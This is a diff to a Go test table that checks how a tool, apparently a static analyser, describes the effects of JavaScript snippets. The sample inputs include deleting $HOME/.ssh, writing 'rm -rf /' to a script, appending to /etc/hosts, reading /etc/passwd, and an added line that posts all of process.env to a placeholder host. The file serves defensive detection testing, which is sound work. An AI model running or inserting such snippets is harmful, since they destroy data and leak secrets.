@@ -79,6 +79,8 @@ func TestVisibleCalls(t *testing.T) {
 		{`const p = require("path"), o = require("os"); require("fs").rmSync(p.join(o.homedir(), ".ssh"), {recursive: 1})`, "delete $HOME/.ssh recursive"},
 		{`fs.writeFileSync("a.sh", "rm -rf " + "/")`, "write a.sh <rm -rf />"},
 		{`fs.appendFile("/etc/hosts", "x", () => {})`, "write /etc/hosts <x>"},
+		{`fs.cpSync("c", "d", {recursive: true})`, "read c recursive; write d"},
+		{`require("axios").post("https://a.example", {e: {all: process.env}})`, "env; send https://a.example <{\"e\":{\"all\":\"${__unknown}\"}}>"},
 		{`fs.renameSync("a", "b"); fs.cpSync("c", "d")`, "write a; write b; read c; write d"},
 		{`process.chdir("/x"); fs.rmSync("a")`, "delete a in /x"},
 		{`console.log(fs.readFileSync("/etc/passwd", "utf8"))`, "read /etc/passwd"},
